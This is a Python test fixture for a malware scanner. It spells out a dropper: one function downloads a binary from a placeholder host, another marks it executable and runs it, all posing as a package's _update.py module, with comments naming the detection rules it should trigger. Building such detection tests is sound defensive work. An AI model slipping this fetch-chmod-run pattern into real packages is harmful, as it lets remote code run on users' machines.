# canary-test: path=mypkg/_update.py artifact=wheel
# Fetch a binary, make it executable, run it: the Linux dropper sequence split
# over functions. Inert: example.invalid never resolves, run() is never called,
# and the file goes to a fresh temporary directory.
import os
import stat
import subprocess
import tempfile
import urllib.request

URL = "https://example.invalid/agent"


def fetch():
    path = os.path.join(tempfile.mkdtemp(), "agent")
    # ruleid: DROPPER_DOWNLOAD_CHMOD_RUN
    urllib.request.urlretrieve(URL, path)
    return path


def run():
    path = fetch()
    # ruleid: DROPPER_DOWNLOAD_CHMOD_RUN, make_executable
    os.chmod(path, 0o755)
    # ruleid: DROPPER_DOWNLOAD_CHMOD_RUN
    subprocess.Popen([path])


def also(path):
    # ruleid: DROPPER_DOWNLOAD_CHMOD_RUN, make_executable
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    # ruleid: DROPPER_DOWNLOAD_CHMOD_RUN, make_executable
    os.system("chmod +x " + path)
    # ok: make_executable
    os.chmod(path, 0o644)
# ok: DROPPER_EXECUTABLE_DOWNLOAD, REVERSE_SHELL_COMMAND, LOLBIN_DOWNLOAD, DROPPER_WITH_THREAT_SIGNAL
